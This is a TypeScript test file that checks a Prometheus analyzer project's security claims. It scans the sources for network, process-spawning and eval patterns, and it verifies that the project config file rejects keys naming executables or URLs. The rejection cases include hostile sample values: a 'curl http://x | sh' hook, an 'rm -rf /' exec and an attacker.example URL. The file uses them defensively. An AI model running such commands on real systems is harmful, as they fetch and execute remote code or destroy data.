/**
 * The trust claims of SECURITY.md (issue 8), as tests:
 *  - the analyzer core does no I/O at all: no `node:` module, no `process`, no `fetch`, no dynamic
 *    code (`eval`, `new Function`, dynamic `import()`), no `require` under packages/core/src;
 *  - the CLI never spawns a process nor opens a network connection (no child_process, net, http,
 *    dgram, fetch, WebSocket under packages/cli/src);
 *  - in the language server, the only network access is the Prometheus client, built only from the
 *    `prometheusUrl` editor setting;
 *  - `.promscope.yml` cannot name an executable, a URL or a plugin: such keys are rejected with a
 *    diagnostic and never reach the configuration.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, test } from 'vitest';
import { parseProjectConfig } from '../../src/index';

const repo = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../../..');
function sources(dir: string): { file: string; text: string }[] {
  const out: { file: string; text: string }[] = [];
  for (const n of readdirSync(dir)) {
    const p = path.join(dir, n);
    if (statSync(p).isDirectory()) out.push(...sources(p));
    else if (/\.ts$/.test(n)) out.push({ file: path.relative(repo, p), text: readFileSync(p, 'utf8') });
  }
  return out;
}
/** code without comments and string contents, so that prose does not count */
function code(text: string): string {
  return text
    .replace(/\/\*[\s\S]*?\*\//g, '')
    .replace(/(^|[^:\\])\/\/.*$/gm, '$1')
    .replace(/'(?:[^'\\\n]|\\.)*'|"(?:[^"\\\n]|\\.)*"/g, "''");
}
function offenders(dir: string, patterns: RegExp[], keepStrings = false): string[] {
  const out: string[] = [];
  for (const s of sources(path.join(repo, dir))) {
    const c = keepStrings ? s.text.replace(/\/\*[\s\S]*?\*\//g, '').replace(/(^|[^:\\])\/\/.*$/gm, '$1') : code(s.text);
    for (const p of patterns) {
      const m = p.exec(c);
      if (m) out.push(`${s.file}: ${m[0]}`);
    }
  }
  return out;
}

describe('no code execution, no network', () => {
  test('the core does no I/O and runs no dynamic code', () => {
    expect(offenders('packages/core/src', [/from\s+'node:[^']*'|from\s+"node:/, /\brequire\s*\(/, /\bimport\s*\(/], true)).toEqual([]);
    expect(offenders('packages/core/src', [/\bprocess\.\w+/, /\bfetch\s*\(/, /\beval\s*\(/, /\bnew\s+Function\s*\(/, /\bXMLHttpRequest\b|\bWebSocket\b/, /\bconsole\.\w+/])).toEqual([]);
  });

  test('the CLI spawns nothing and opens no connection', () => {
    expect(offenders('packages/cli/src', [/from\s+'node:(child_process|net|http|https|http2|dgram|tls|dns)'/], true)).toEqual([]);
    expect(offenders('packages/cli/src', [/\bfetch\s*\(/, /\beval\s*\(/, /\bnew\s+Function\s*\(/, /\bWebSocket\b/])).toEqual([]);
  });

  test('the language server reaches the network only through the Prometheus client, built from the prometheusUrl setting', () => {
    const net = offenders('packages/language-server/src', [/from\s+'node:(child_process|net|http|https|http2|dgram|tls|dns)'/], true);
    expect(net).toEqual([]);
    const fetches = offenders('packages/language-server/src', [/\bfetch\s*\(/]);
    expect(fetches.map((f) => f.split(':')[0])).toEqual(['packages/language-server/src/prometheus-client.ts']);
    const built = offenders('packages/language-server/src', [/new\s+PrometheusClient\s*\([^)]*\)/]);
    expect(built).toHaveLength(1);
    expect(built[0]).toMatch(/new\s+PrometheusClient\s*\(\s*s\.prometheusUrl\b/);
  });
});

describe('.promscope.yml cannot name executables', () => {
  test.each([
    ['command: ./lint.sh\n', 'command'],
    ['exec: [rm, -rf, /]\n', 'exec'],
    ['plugins: [./evil.js]\n', 'plugins'],
    ['prometheusUrl: http://attacker.example:9090\n', 'prometheusUrl'],
    ['hooks:\n  pre: curl http://x | sh\n', 'hooks'],
  ])('%j is rejected', (text, key) => {
    const r = parseProjectConfig(`prometheusVersion: "3.5"\n${text}`);
    expect(r.diagnostics.some((d) => d.message.includes(`unknown key "${key}"`))).toBe(true);
    expect(JSON.stringify(r.config)).not.toContain(key);
  });

  test('check options are plain data (aliases bounded)', () => {
    const r = parseProjectConfig('checks:\n  promql/regex-literal:\n    level: warning\n    options: &o {a: 1}\n');
    expect(r.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    expect(r.config.checks['promql/regex-literal']?.options).toEqual({ a: 1 });
  });
});
